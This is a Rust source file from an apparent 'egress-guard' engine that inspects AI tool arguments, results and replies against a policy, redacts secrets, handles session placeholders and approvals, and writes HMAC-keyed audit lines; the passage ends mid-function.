//! The pipeline: one policy, three entry points (args, result, reply), one verdict each.
//!
//! Every string of a payload goes through the size cap, then the rules enabled for its scope in
//! a fixed order. Hits become findings carrying the rule's mode as their action; the strictest
//! action over the payload is the verdict's action.

use std::cell::{OnceCell, RefCell};
use std::fmt::Write as _;
use std::sync::{Mutex, OnceLock, PoisonError, RwLock};

use hmac::{Hmac, Mac};
use serde_json::{Map, Value, json};
use sha2::{Digest, Sha256};

use crate::audit;
use crate::mask::one_line_read;
use crate::policy::{FailMode, Policy, PolicyError};
use crate::rules::secrets::{Known, PAIR_NAME_KEYS as NAME_KEYS, PAIR_VALUE_KEYS as VALUE_KEYS};
use crate::rules::selfprotect::HostPaths;
use crate::rules::steps::Steps;
use crate::rules::{self, Analyses, Context, Hit, Stage};
use crate::session::restore::{self, Restore};
use crate::session::{self, Decided, Facts, Outcome, Session, Sessions, labels, vault};
use crate::tools::{Field, ToolClass};
use crate::verdict::{Action, Finding, Scope, Severity, Verdict};

/// At most this many findings are written into one audit line.
pub const AUDIT_MAX_FINDINGS: usize = 50;
/// An audit line is never longer than this.
pub const AUDIT_MAX_BYTES: usize = 64 * 1024;
/// Command previews in messages are at most this many characters.
pub const PREVIEW_MAX_CHARS: usize = 120;

/// A loaded policy, ready to inspect payloads. Cheap to call; build once per policy.
pub struct Guard {
    policy: Policy,
    source: String,
    load_error: Option<PolicyError>,
    /// The rules, built, in pipeline order.
    stages: Vec<Stage>,
    /// What the calls of each session left behind (`crate::session`).
    sessions: Mutex<Sessions>,
    /// The host's per-installation key for the digest in audit lines (set once).
    audit_key: OnceLock<Vec<u8>>,
    /// Hex SHA-256 of the policy text this guard was built from (sealed into audit lines).
    policy_sha256: String,
    /// The user's own secrets a host handed over ([`Guard::add_known_values`]), in memory only.
    known: RwLock<Known>,
}

pub use crate::verdict::CallOptions as Options;

/// What the rules made of one string.
struct StringResult {
    path: String,
    /// The audit line's digest of the inspected string: (field, hex), if any.
    digest: Option<(&'static str, String)>,
    findings: Vec<Finding>,
    rewritten: Option<String>,
    notes: Vec<&'static str>,
    /// Only when explaining: what the rules explained (JSON objects).
    reports: Vec<String>,
}

/// One payload's way through the pipeline: the call and, for each string, where it is.
#[derive(Clone, Copy)]
struct Call<'a> {
    scope: Scope,
    tool: &'a str,
    class: ToolClass,
    explain: bool,
    session: Option<&'a Facts<'a>>,
    /// The call's work budget, shared by all its strings.
    steps: &'a Steps,
}

impl Guard {
    /// Build a guard. Never fails: a rejected policy yields the built-in defaults and
    /// [`Guard::load_error`] says why.
    pub fn new(policy_yaml: &str, source: &str, preset: Option<&str>) -> Guard {
        let (policy, load_error) = Policy::load(policy_yaml, preset);
        let mut guard = Guard::from_policy(policy, source, load_error);
        guard.policy_sha256 = audit::sha256_hex(policy_yaml.as_bytes());
        guard
    }

    pub fn from_policy(policy: Policy, source: &str, load_error: Option<PolicyError>) -> Guard {
        let stages = policy.rules.build(&policy.allowlist);
        Guard {
            stages,
            policy,
            source: source.to_string(),
            load_error,
            sessions: Mutex::default(),
            audit_key: OnceLock::new(),
            policy_sha256: audit::sha256_hex(b""),
            known: RwLock::new(Known::new()),
        }
    }

    /// Add the host's own files to the self-protection rule's list (the policy and component it
    /// loaded, its cache, plugin directory and audit log) and say where home is. Replaces what an
    /// earlier call added.
    pub fn protect_paths(&mut self, host: &HostPaths) {
        self.policy.rules.selfprotect.host = host.clone();
        self.stages = self.policy.rules.build(&self.policy.allowlist);
    }

    /// Hex SHA-256 of the policy text this guard was built from.
    pub fn policy_sha256(&self) -> &str {
        &self.policy_sha256
    }

    /// Seal one of this guard's audit entries for appending after `prev_line` ([`audit::seal`]):
    /// `ts` first, the component's and this policy's SHA-256 and the previous line's hash last.
    pub fn seal_audit(&self, line: &str, ts: &str, component_sha256: &str, prev_line: Option<&str>) -> Result<String, String> {
        audit::seal(line, ts, component_sha256, &self.policy_sha256, prev_line)
    }

    pub fn policy(&self) -> &Policy {
        &self.policy
    }

    /// Why the policy text was rejected (the preset it names, or the defaults, are in force).
    pub fn load_error(&self) -> Option<String> {
        self.load_error.as_ref().map(PolicyError::to_string)
    }

    pub fn fail_mode(&self) -> FailMode {
        self.policy.fail_mode
    }

    /// Hands the guard the user's own secrets, which it then redacts wherever they appear, in
    /// any encoding it can see (see `rules::secrets::known`): `(name, value)` pairs, where the
    /// name is an environment variable's (only credential names count), empty (the value is a
    /// secret as it is), or `file:<path>` with the file's text as the value. Held in memory only.
    /// Returns how many values were added.
    pub fn add_known_values(&self, entries: &[(String, String)]) -> usize {
        let values = rules::secrets::known_values(entries);
        self.known.write().unwrap_or_else(|e| e.into_inner()).add(values)
    }

    /// Inspect one payload. `None` means clean: nothing found, nothing changed.
    pub fn inspect(&self, scope: Scope, tool: &str, payload: &str) -> Option<Verdict> {
        self.inspect_with(scope, tool, payload, &Options::default())
    }

    /// [`Guard::inspect`] with the call's [`Options`].
    pub fn inspect_with(&self, scope: Scope, tool: &str, payload: &str, options: &Options) -> Option<Verdict> {
        self.run(scope, tool, payload, false, options).0
    }

    /// [`Guard::inspect_with`] with the options as JSON (`inspect-with`). Options the engine
    /// cannot read are a host bug, answered by blocking: the internal verdict of a closed guard.
    pub fn inspect_options_json(&self, scope: Scope, tool: &str, payload: &str, options: &str) -> Option<Verdict> {
        match serde_json::from_str::<Options>(options) {
            Ok(options) => self.inspect_with(scope, tool, payload, &options),
            Err(e) => Some(Verdict::internal(scope, tool, &format!("unreadable call options: {e}"), FailMode::Closed)),
        }
    }

    /// A host's report on a session (`session-event`): an approval's outcome
    /// (`{"session","event":"approval","approval","approved","now_ms"?}`) or its end
    /// (`{"session","event":"end"}`); answered as JSON (`{"error"}` when it cannot be applied).
    pub fn session_event(&self, event_json: &str) -> String {
        self.sessions.lock().unwrap_or_else(PoisonError::into_inner).event(event_json, &self.policy.session)
    }

    /// How many sessions this guard holds, and the bytes they account for (for bounds tests and
    /// benchmarks; never their contents).
    pub fn session_footprint(&self) -> (usize, usize) {
        let s = self.sessions.lock().unwrap_or_else(PoisonError::into_inner);
        (s.len(), s.bytes())
    }

    pub fn inspect_args(&self, tool: &str, args_json: &str) -> Option<Verdict> {
        self.inspect(Scope::Args, tool, args_json)
    }

    pub fn inspect_result(&self, tool: &str, result: &str) -> Option<Verdict> {
        self.inspect(Scope::Result, tool, result)
    }

    pub fn inspect_reply(&self, text: &str) -> Option<Verdict> {
        self.inspect(Scope::Reply, "", text)
    }

    /// The same inspection as [`Guard::inspect`], explained: what the small-cell rule did with
    /// every table it flagged, with the attacker's audited interval for each hidden count
    /// (`explain-json`): `{"tables":[{"path","index","status","threshold","protection","rows","cells"}]}`.
    /// The hidden values themselves are never in it.
    pub fn explain_json(&self, scope: Scope, tool: &str, payload: &str) -> String {
        let (_, reports) = self.run(scope, tool, payload, true, &Options::default());
        format!("{{\"tables\":[{}]}}", reports.join(","))
    }

    /// One payload through the pipeline; with `explain`, the rules' reports too. A call that
    /// names a session runs with that session's state, which it updates.
    fn run(&self, scope: Scope, tool: &str, payload: &str, explain: bool, options: &Options) -> (Option<Verdict>, Vec<String>) {
        let tool = if scope == Scope::Reply { "" } else { tool };
        let Some(id) = options.session.as_deref() else {
            return self.run_call(scope, tool, payload, explain, options, None);
        };
        let bad = |why: &str| (Some(Verdict::internal(scope, tool, &format!("unreadable call options: {why}"), FailMode::Closed)), Vec::new());
        let Some(seq) = options.session_seq else {
            return bad("session_seq is required with session");
        };
        if id.is_empty() || id.len() > session::MAX_ID_BYTES {
            return bad(&format!("a session id is 1 to {} bytes", session::MAX_ID_BYTES));
        }
        let mut store = self.sessions.lock().unwrap_or_else(PoisonError::into_inner);
        let s = store.open(id, seq, options.now_ms, &self.policy.session);
        let out = self.run_call(scope, tool, payload, explain, options, Some(s));
        store.enforce(&self.policy.session.sessions, id);
        out
    }

    fn run_call(
        &self,
        scope: Scope,
        tool: &str,
        payload: &str,
        explain: bool,
        options: &Options,
        session: Option<&mut Session>,
    ) -> (Option<Verdict>, Vec<String>) {
        let class = self.policy.tools.class(tool);
        let steps = Steps::call();
        let call = Call { scope, tool, class, explain, session: None, steps: &steps };
        let unattended = options.unattended.as_deref();
        let Some(session) = session else {
            let (mut results, output) = self.walk(call, payload);
            // The preview shows the command as it will run: after redaction and suppression, so a
            // value the rules hid never comes back through the message. (A copy only when rewritten.)
            let args_json = (scope == Scope::Args).then(|| output.as_deref().unwrap_or(payload).to_string());
            let reports = results.iter_mut().flat_map(|r| std::mem::take(&mut r.reports)).collect();
            return (self.verdict(scope, tool, output, results, args_json.as_deref(), unattended), reports);
        };
        let lost = session.lost();
        let facts = session.facts(&self.policy.session, options.now_ms, options.file_sizes.as_ref());
        let (mut results, mut output) = self.walk(Call { session: Some(&facts), ..call }, payload);
        let args_json = (scope == Scope::Args).then(|| output.as_deref().unwrap_or(payload).to_string());
        let mut labels_gained: Vec<String> = Vec::new();
        if let Some(args) = &args_json {
            let asks = results.iter().flat_map(|r| &r.findings).any(|f| f.action >= Action::Approve);
            if let Some(vault) = &facts.vault {
                let decision = restore::restore(&vault.borrow(), &self.policy, tool, class, args);
                self.apply_restore(decision, asks, payload, &mut results, &mut output, &mut labels_gained);
            } else if lost && self.policy.session.placeholders.enabled {
                let shaped = vault::placeholder_shaped(args);
                if !shaped.is_empty() {
                    let reason = format!("{} not put back: {}.", shaped.join(", "), session::egress::LOST);
                    self.add_finding(&mut results, "", payload, session_finding(Action::Warn, Severity::Medium, reason, shaped.join(", ")));
                }
            }
        }
        let reports = results.iter_mut().flat_map(|r| std::mem::take(&mut r.reports)).collect();
        let mut verdict = self.verdict(scope, tool, output, results, args_json.as_deref(), unattended);
        let action = verdict.as_ref().map_or(Action::Allow, |v| v.action);
        let decided = match action {
            Action::Block => Decided::Blocked,
            Action::Approve => Decided::Asks,
            _ => Decided::Passed,
        };
        if let Some(cfg) = &self.policy.session.labels
            && decided != Decided::Blocked
        {
            match scope {
                Scope::Args => labels_gained.extend(labels::of_call(cfg, tool, serde_json::from_str::<Value>(payload).ok().as_ref())),
                Scope::Result => labels_gained.extend(labels::of_call(cfg, tool, None)),
                Scope::Reply => {}
            }
        }
        let Facts { vault, pending, .. } = facts;
        let approval = session.finish(vault.map(RefCell::into_inner), pending.into_inner(), Outcome { labels: labels_gained, decided });
        if let Some(v) = verdict.as_mut() {
            v.approval = approval;
        }
        (verdict, reports)
    }

    /// Every string of a payload through the rules: what they found, and the rewritten payload.
    fn walk(&self, call: Call, payload: &str) -> (Vec<StringResult>, Option<String>) {
        let mut results = Vec::new();
        let json = if call.scope == Scope::Reply { Ok(None) } else { parse_json_container(payload) };
        let output = match json {
            Ok(Some(mut value)) => {
                let changed = self.walk_json(call, &mut value, None, &mut String::new(), &mut results);
                changed.then(|| value.to_string())
            }
            Ok(None) => self.inspect_plain(call, payload, &mut results),
            Err(why) => {
                // Still read as text (its credentials redacted), but arguments no host reads as
                // written (a number past f64, nesting past 128 levels, a lone surrogate) could not
                // have their fields checked, and a rewrite of them would not mean what was sent.
                let output = self.inspect_plain(call, payload, &mut results);
                if call.scope != Scope::Args {
                    return (results, output);
                }
                let reason = format!("Arguments are not JSON every host reads the same way ({why}), so their fields could not be checked; blocked.");
                let f = Finding {
                    rule: "args".into(),
                    code: UNREADABLE_ARGS.into(),
                    action: Action::Block,
                    severity: Severity::High,
                    reason,
                    preview: "unreadable JSON".into(),
                };
                self.add_finding(&mut results, "", payload, f);
                // Blocked: no rewrite of them is handed back (the verdict carries arguments as JSON).
                None
            }
        };
        (results, output)
    }

    /// A restore decision into the call's findings, output and the labels it gives the session.
    /// `asks`: the call already needs approval or is blocked, so nothing is put back.
    fn apply_restore(
        &self,
        decision: Restore,
        asks: bool,
        payload: &str,
        results: &mut Vec<StringResult>,
        output: &mut Option<String>,
        labels: &mut Vec<String>,
    ) {
        match decision {
            Restore::Nothing => {}
            Restore::Done { restored, .. } if asks => {
                for (path, used) in restored {
                    let names: Vec<&str> = used.iter().map(|(p, _)| p.as_str()).collect();
                    let reason = format!("{} not put back: this call is not let through as it is.", names.join(", "));
                    self.add_finding(results, &path, payload, session_finding(Action::Warn, Severity::Low, reason, names.join(", ")));
                }
            }
            Restore::Done { args, restored, why } => {
                for (path, used) in restored {
                    for (p, class) in used {
                        let reason = format!("Placeholder {p} put back for this call: {why}.");
                        self.add_finding(results, &path, payload, session_finding(Action::Redact, Severity::Low, reason, p));
                        labels.push(class.label().to_string());
                    }
                }
                *output = Some(args);
            }
            Restore::Refused { placeholders, why } => {
                for (path, names) in placeholders {
                    let reason = format!("{} not put back: {why}.", names.join(", "));
                    self.add_finding(results, &path, payload, session_finding(Action::Warn, Severity::Medium, reason, names.join(", ")));
                }
            }
        }
    }

    fn inspect_plain(&self, call: Call, text: &str, results: &mut Vec<StringResult>) -> Option<String> {
        let r = self.inspect_string(call, "", None, text, Piece::Value);
        let out = r.rewritten.clone();
        if !r.findings.is_empty() {
            results.push(r);
        }
        out
    }

    /// Inspect every string (and object key) in place; true if anything was rewritten.
    /// `member`: the name of the object member `value` belongs to.
    fn walk_json(&self, call: Call, value: &mut Value, member: Option<&str>, path: &mut String, results: &mut Vec<StringResult>) -> bool {
        match value {
            Value::String(s) => {
                let r = self.inspect_string(call, path, member, s, Piece::Value);
                settle(r, results, |new| *s = new.to_string())
            }
            Value::Array(items) => {
                // A text kept as its lines (a notebook's `source` and stream `text`, Python's
                // `readlines()`) is read as the one text it is, so a value over several lines (a
                // key block) or a name and its value on two lines is seen whole; a rewrite goes
                // back as the lines of the rewritten text.
                if let Some(text) = lines_text(items) {
                    // An empty last item (after a text's final newline) is no line: kept as it is.
                    let empty_last = items.last().and_then(Value::as_str) == Some("");
                    let r = self.inspect_string(call, path, member, &text, Piece::Value);
                    return settle(r, results, |new| {
                        let mut lines: Vec<Value> = new.split_inclusive('\n').map(|l| Value::String(l.to_string())).collect();
                        if empty_last {
                            lines.push(Value::String(String::new()));
                        }
                        *value = Value::Array(lines)
                    });
                }
                let mut changed = false;
                // An array of records is a table: the table rules read it whole, as JSON text.
                if is_records(items) {
                    let text = serde_json::to_string(items).expect("JSON values serialize");
                    let r = self.inspect_string(call, path, member, &text, Piece::Records);
                    let parsed = r.rewritten.as_deref().and_then(|new| serde_json::from_str::<Value>(new).ok());
                    if !r.findings.is_empty() || !r.reports.is_empty() {
                        results.push(r);
                    }
                    if let Some(new) = parsed {
                        *value = new;
                        return true;
                    }
                }
                let Value::Array(items) = value else { unreachable!("still an array") };
                for (i, item) in items.iter_mut().enumerate() {
                    let len = path.len();
                    path.push('/');
                    write!(path, "{i}").expect("writing to a String");
                    changed |= self.walk_json(call, item, None, path, results);
                    path.truncate(len);
                }
                changed
            }
            Value::Object(map) => {
                let mut changed = false;
                let old = std::mem::take(map);
                // A name/value pair (`{"name": "API_TOKEN", "value": "…"}`: a HAR header or form
                // field, a CI variable, a Kubernetes env entry): the value is read as the member
                // its name names.
                // CloudFormation's stack outputs and parameters name theirs `OutputKey` / `ParameterKey`.
                let named: Option<String> = old
                    .iter()
                    .find(|(k, v)| NAME_KEYS.iter().any(|n| k.eq_ignore_ascii_case(n)) && v.is_string())
                    .and_then(|(_, v)| v.as_str().map(str::to_string));
                let mut new = Map::with_capacity(old.len());
                for (key, mut item) in old {
                    // Keys can carry data too (a secret used as a key); only rules that say so read them.
                    let mut kr = self.inspect_string(Call { explain: false, ..call }, path, None, &key, Piece::Key);
                    let mut key = match kr.rewritten.take() {
                        Some(k) => {
                            changed = true;
                            k
                        }
                        None => key,
                    };
                    // Two keys redacted alike (or a redacted key meeting a literal one) must not
                    // overwrite each other: number the later one so no member is lost.
                    if new.contains_key(&key) {
                        let base = key;
                        key = (2..).map(|n| format!("{base}#{n}")).find(|k| !new.contains_key(k)).expect("a free key");
                        changed = true;
                    }
                    let len = path.len();
                    path.push('/');
                    path.push_str(&key.replace('~', "~0").replace('/', "~1"));
                    // Pointers name the key as written out, so a redacted key never reaches an audit line.
                    if !kr.findings.is_empty() {
                        kr.path = path.clone();
                        results.push(kr);
                    }
                    // With no name beside it, a `value` is the value of the member holding its
                    // object (an Azure DevOps variable group's `{"DB_PASSWORD": {"value": "…"}}`,
                    // `terraform output -json`'s `{"db_password": {"sensitive": true, "value": "…"}}`).
                    let member = match (&named, member) {
                        (Some(name), _) if VALUE_KEYS.iter().any(|v| key.eq_ignore_ascii_case(v)) => name.as_str(),
                        (None, Some(outer)) if key.eq_ignore_ascii_case("value") => outer,
                        _ => key.as_str(),
                    };
                    changed |= self.walk_json(call, &mut item, Some(member), path, results);
                    path.truncate(len);
                    new.insert(key, item);
                }
                *map = new;
                changed
            }
            _ => false,
        }
    }

    /// Size cap, then each enabled rule in pipeline order, threading rewrites through: the
    /// network rule reads the command as written, secrets redact, then the table rules see the
    /// redacted text. Object keys only go through the rules that read keys, arrays of records
    /// only through the rules that read records.
    fn inspect_string(&self, call: Call, path: &str, member: Option<&str>, text: &str, piece: Piece) -> StringResult {
        // Path and digest are only filled in for a string with findings (most have none).
        let mut result = StringResult { path: String::new(), digest: None, findings: Vec::new(), rewritten: None, notes: Vec::new(), reports: Vec::new() };
        let field = if call.scope == Scope::Args && matches!(piece, Piece::Value) { self.policy.tools.field(call.tool, path) } else { None };
        if let Some(mut hit) = rules::size::check(text, self.policy.max_scan_bytes, self.policy.fail_mode) {
            // A command too long to check is a command that could not be checked: the network
            // rule's verdict for that (an input can make itself long; fail_mode is for the
            // guard's own faults).
            let reads_it = matches!(field, Some(Field::Command | Field::Code));
            let network = self.stages.iter().find(|s| s.id == "network").and_then(|s| s.action_for(call.scope, call.class)).filter(|_| reads_it);
            if let Some(action) = network {
                let action = if self.policy.fail_mode == FailMode::Closed { Action::Block } else { action };
                hit = rules::size::unchecked_command(text, self.policy.max_scan_bytes, action);
            }
            result.findings.push(finding("size", Action::Warn, hit));
        } else {
            // The shell walk of the text as written, shared by the rules that read commands
            // until one rewrites the text.
            let shell = OnceCell::new();
            let mut current: Option<String> = None;
            // A value this session holds, back in any encoding: its placeholder again.
            if let Some(vault) = call.session.and_then(|f| f.vault.as_ref())
                && let Some((new, used)) = vault.borrow_mut().conceal_known(text)
            {
                for p in used {
                    let reason = format!("A value this session holds as {p} appeared again; it was replaced by its placeholder.");
                    result.findings.push(session_finding(Action::Redact, Severity::High, reason, p));
                }
                result.rewritten = Some(new.clone());
                current = Some(new);
            }
            let known = self.known.read().unwrap_or_else(|e| e.into_inner());
            let known = (!known.is_empty()).then_some(&*known);
            let reads = |stage: &Stage| match piece {
                Piece::Value => true,
                Piece::Key => stage.rule.reads_keys(),
                Piece::Records => stage.rule.reads_records(),
            };
            // The read the secrets and personal-data rules share, made only when a rule that
            // needs it runs on this string, and made again after a rewrite.
            let share = self.stages.iter().any(|s| s.rule.shares_read() && reads(s) && s.action_for(call.scope, call.class).is_some());
            // What a string a rule could not read to its end gets (see `Context::unchecked`).
            let unchecked = match self.policy.fail_mode {
                FailMode::Closed => Action::Block,
                FailMode::Open => self.stages.iter().find(|s| s.id == "network").and_then(|s| s.action_for(Scope::Args, call.class)).unwrap_or(Action::Approve),
            };
            // One pass per version of the text: the stages from `next` on, until one rewrites it.
            // The analyses are of that version, so they live for its pass.
            let mut next = 0;
            while next < self.stages.len() {
                let version = current.take();
                let now = version.as_deref().unwrap_or(text);
                let analyses = Analyses::new(share, now);
                let mut rewritten = None;
                for (k, stage) in self.stages.iter().enumerate().skip(next) {
                    next = k + 1;
                    if !reads(stage) {
                        continue;
                    }
                    let Some(mode_action) = stage.action_for(call.scope, call.class) else {
                        continue;
                    };
                    let cx = Context {
                        scope: call.scope,
                        tool: call.tool,
                        class: call.class,
                        field,
                        path,
                        member,
                        rewrite: mode_action == Action::Redact,
                        allowlist: stage.allowlist.as_ref(),
                        explain: call.explain,
                        session: call.session,
                        fail_mode: self.policy.fail_mode,
                        shell: version.is_none().then_some(&shell),
                        known,
                        analyses: Some(&analyses),
                        steps: Some(call.steps),
                        unchecked,
                    };
                    let outcome = stage.rule.inspect(&cx, now);
                    result.reports.extend(outcome.reports);
                    if outcome.hits.is_empty() {
                        continue;
                    }
                    result.findings.extend(outcome.hits.into_iter().map(|h| finding(stage.id, mode_action, h)));
                    if let Some(new) = outcome.rewritten {
                        result.rewritten = Some(new.clone());
                        if let Some(note) = outcome.withheld_note {
                            result.notes.push(note);
                        }
                        rewritten = Some(new);
                        break;
                    }
                }
                drop(analyses);
                current = rewritten.or(version);
            }
        }
        if !result.findings.is_empty() || !result.reports.is_empty() {
            result.path = path.to_string();
        }
        if !result.findings.is_empty() {
            result.digest = self.digest(text);
        }
        result
    }

    /// `args_json`: the tool arguments as rewritten, whose shell command (if any) a blocking
    /// message previews; parsed for it only when a message needs it. `unattended`: why nobody
    /// will answer an approval (each `approve` finding then blocks).
    fn verdict(
        &self,
        scope: Scope,
        tool: &str,
        mut output: Option<String>,
        mut results: Vec<StringResult>,
        args_json: Option<&str>,
        unattended: Option<&str>,
    ) -> Option<Verdict> {
        if results.is_empty() && output.is_none() {
            return None;
        }
        let mut bypassed = false;
        if unattended.is_some() {
            for f in results.iter_mut().flat_map(|r| &mut r.findings).filter(|f| f.action == Action::Approve) {
                f.action = Action::Block;
                bypassed = true;
            }
        }
        let action = results.iter().flat_map(|r| &r.findings).map(|f| f.action).max().unwrap_or(Action::Allow);
        let audit = results.iter().map(|r| audit_line(scope, tool, action, r)).collect();
        let mut notes: Vec<&str> = results.iter().flat_map(|r| r.notes.iter().copied()).collect();
        notes.sort_unstable();
        notes.dedup();
        // The audit lines are written: the findings move into the verdict instead of being copied.
        let findings: Vec<Finding> = results.into_iter().flat_map(|r| r.findings).collect();

        let message = if action >= Action::Approve {
            let top = findings.iter().find(|f| f.action == action).expect("strictest finding exists");
            let mut msg = match unattended {
                Some(why) if bypassed => format!(
                    "[egress-guard] BLOCK: approvals are bypassed ({why}), and this call needs approval, so it was blocked. {} ({})",
                    top.reason, top.code
                ),
                _ => format!("[egress-guard] {}: {} ({})", action.as_str().to_uppercase(), top.reason, top.code),
            };
            if let Some(cmd) = args_json.and_then(command_of) {
                msg.push_str(" Command: ");
                msg.push_str(&command_preview(&cmd, |t| {
                    let known = self.known.read().unwrap_or_else(|e| e.into_inner());
                    rules::secrets::mask_with(t, Some(&*known))
                }));
            }
            Some(msg)
        } else if !notes.is_empty() {
            Some(format!("[egress-guard] Values withheld: {}.", notes.join("; ")))
        } else {
            None
        };

        let mut note = None;
        match scope {
            // A result or reply cannot wait for an approval: it is withheld instead.
            Scope::Result | Scope::Reply if action >= Action::Approve => {
                output = message.clone();
            }
            Scope::Reply if !notes.is_empty() => {
                if let (Some(out), Some(msg)) = (output.as_mut(), message.as_deref()) {
                    out.truncate(out.trim_end().len());
                    out.push_str("\n\n");
                    out.push_str(msg);
                    note = Some(msg.to_string());
                }
            }
            _ => {}
        }
        Some(Verdict { scope, action, output, findings, message, audit, note, approval: None })
    }

    /// The effective policy, as `/guard status` shows it.
    pub fn status_json(&self) -> String {
        let p = &self.policy;
        let rules = serde_json::to_value(&p.rules).expect("rules serialize");
        json!({
            "engine_version": crate::VERSION,
            "source": self.source,
            "preset": p.preset,
            "valid": self.load_error.is_none(),
            "error": self.load_error(),
            "fail_mode": p.fail_mode,
            "max_scan_bytes": p.max_scan_bytes,
            "allowlist": p.allowlist,
            "audit": p.audit,
            "tools": p.tools,
            "rules": rules,
            "placeholders": p.session.placeholders,
            "labels": p.session.labels,
            "grants": p.session.grants,
            "grants_on_approval": p.session.grants_on_approval,
            "sessions": p.session.sessions,
            "policy_sha256": self.policy_sha256,
        })
        .to_string()
    }

    /// The `/guard check` dry run: `text` as a shell command argument, a tool result and a reply.
    pub fn check_json(&self, text: &str) -> String {
        let args = json!({ "command": text }).to_string();
        let view = |v: Option<Verdict>| match v {
            Some(v) => serde_json::from_str::<Value>(&v.to_json()).expect("verdict json parses"),
            None => {
                json!({"action": "allow", "output": null, "findings": [], "message": null, "audit": []})
            }
        };
        let enabled = |scope: Scope| -> Vec<&'static str> {
            self.policy.rules.common().into_iter().filter(|(_, c)| c.action_in(scope).is_some()).map(|(id, _)| id).collect()
        };
        let mut out = Map::new();
        for (scope, verdict) in
            [(Scope::Args, self.inspect_args("terminal", &args)), (Scope::Result, self.inspect_result("check", text)), (Scope::Reply, self.inspect_reply(text))]
        {
            let mut v = view(verdict);
            v.as_object_mut().expect("object").remove("audit");
            v.as_object_mut().expect("object").insert("rules".into(), json!(enabled(scope)));
            out.insert(scope.as_str().into(), v);
        }
        Value::Object(out).to_string()
    }
}

/// A finding about the session itself (a placeholder put back or not, a vault value seen again).
fn session_finding(action: Action, severity: Severity, reason: String, preview: String) -> Finding {
    Finding { rule: "session".into(), code: session::CODE.into(), action, severity, reason, preview }
}

impl Guard {
    /// Add `f` to the string at JSON pointer `path` of `payload` (a new entry if it had no findings).
    fn add_finding(&self, results: &mut Vec<StringResult>, path: &str, payload: &str, f: Finding) {
        if let Some(r) = results.iter_mut().find(|r| r.path == path) {
            r.findings.push(f);
            return;
        }
        let text = if path.is_empty() {
            payload.to_string()
        } else {
            serde_json::from_str::<Value>(payload).ok().and_then(|v| v.pointer(path).and_then(Value::as_str).map(str::to_string)).unwrap_or_default()
        };
        results.push(StringResult {
            path: path.to_string(),
            digest: self.digest(&text),
            findings: vec![f],
            rewritten: None,
            notes: Vec::new(),
            reports: Vec::new(),
        });
    }
}

fn finding(rule: &str, mode_action: Action, hit: Hit) -> Finding {
    Finding {
        rule: rule.to_string(),
        code: hit.code.to_string(),
        action: hit.action.unwrap_or(mode_action),
        severity: hit.severity,
        reason: hit.reason,
        preview: hit.preview,
    }
}

/// What a string handed to the rules is.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Piece {
    /// A payload or a string value in it.
    Value,
    /// An object key.
    Key,
    /// An array of JSON records, as compact JSON text.
    Records,
}

/// Whether an array is a table of records: at least two objects of scalar members, at least
/// two members each and a number somewhere.
fn is_records(items: &[Value]) -> bool {
    items.len() >= 2
        && items.iter().all(|v| v.as_object().is_some_and(|o| o.len() >= 2 && o.values().all(|x| !x.is_object() && !x.is_array())))
        && items.iter().any(|v| v.as_object().is_some_and(|o| o.values().any(Value::is_number)))
}

/// Put `r`'s rewrite in place with `apply` and keep `r` if it found anything; true if rewritten.
fn settle(r: StringResult, results: &mut Vec<StringResult>, apply: impl FnOnce(&str)) -> bool {
    let changed = r.rewritten.as_deref().map(apply).is_some();
    if !r.findings.is_empty() {
        results.push(r);
    }
    changed
}

/// The text of an array that holds one text as its lines: at least two strings, each one line,
/// every one but the last (which may) ending in its line break (an array of texts is not one text).
fn lines_text(items: &[Value]) -> Option<String> {
    let (last, lines) = items.split_last()?;
    let one_line = |s: &str| s.strip_suffix('\n').is_some_and(|l| !l.contains('\n'));
    if lines.is_empty() || !lines.iter().all(|v| v.as_str().is_some_and(one_line)) {
        return None;
    }
    let last = last.as_str().filter(|l| one_line(l) || !l.contains('\n'))?;
    Some(lines.iter().filter_map(Value::as_str).chain([last]).collect())
}

/// The code of the finding that blocks tool arguments written as JSON that no host reads as sent.
pub const UNREADABLE_ARGS: &str = "EG-ARGS-001";

/// JSON objects and arrays are walked string by string; anything else is plain text (`Ok(None)`).
/// Text that starts like one but does not parse (serde_json stops at 128 levels of nesting and
/// at numbers past f64) is `Err` with the reason.
fn parse_json_container(text: &str) -> Result<Option<Value>, serde_json::Error> {
    let t = text.trim_start();
    if !(t.starts_with('{') || t.starts_with('[')) {
        return Ok(None);
    }
    serde_json::from_str::<Value>(text).map(|v| (v.is_object() || v.is_array()).then_some(v))
}

/// The shell command inside tool arguments, for message previews.
fn command_of(args_json: &str) -> Option<String> {
    let v: Value = serde_json::from_str(args_json).ok()?;
    ["command", "cmd"].iter().find_map(|k| v.get(*k)?.as_str().map(str::to_string))
}

/// How much of a long command past the part its preview shows is masked with it: more than any
/// credential is long, so one the preview reaches is never cut in two by the window.
const PREVIEW_MASK_MARGIN: usize = 32 * 1024;

/// The approval message's one-line preview of a command, credentials masked. Only the head of a
/// long command is masked: a window that leaves at least [`PREVIEW_MASK_MARGIN`] bytes after the
/// last character shown (doubled until it does), instead of scanning a megabyte for 120
/// characters.
fn command_preview(cmd: &str, mask: impl Fn(&str) -> String) -> String {
    let mut window = 2 * PREVIEW_MASK_MARGIN;
    loop {
        let head = &cmd[..cmd.floor_char_boundary(window)];
        let masked = mask(head);
        let (preview, read) = one_line_read(&masked, PREVIEW_MAX_CHARS);
        if head.len() == cmd.len() || read + PREVIEW_MASK_MARGIN <= masked.len() {
            return preview;
        }
        window *= 2;
    }
}

/// Below this length a string gets no unkeyed digest in the audit log: a string that is little
/// more than a phone number or an SSN is found again from its SHA-256 by trying them all.
pub const AUDIT_DIGEST_MIN_BYTES: usize = 256;

fn hex12(digest: &[u8]) -> String {
    digest.iter().take(6).map(|b| format!("{b:02x}")).collect()
}

impl Guard {
    /// The host's per-installation secret for audit digests (at least 16 bytes; the first call
    /// wins). With it, audit lines carry `hmac_sha256_12` (the first 12 hex digits of
    /// HMAC-SHA-256 under the key) instead of `sha256_12`: lines of one installation can be
    /// matched to each other, and nobody without the key can test a guess against them.
    pub fn set_audit_key(&self, key: &[u8]) {
        if key.len() >= 16 {
            let _ = self.audit_key.set(key.to_vec());
        }
    }

    /// The digest an audit line carries for `text`: keyed when the host gave a key, else the
    /// plain SHA-256 of a string of at least [`AUDIT_DIGEST_MIN_BYTES`], else none.
    fn digest(&self, text: &str) -> Option<(&'static str, String)> {
        match self.audit_key.get() {
            Some(key) => {
                let mut mac = <Hmac<Sha256> as Mac>::new_from_slice(key).expect("HMAC takes any key length");
                mac.update(text.as_bytes());
                Some(("hmac_sha256_12", hex12(&mac.finalize().into_bytes())))
            }
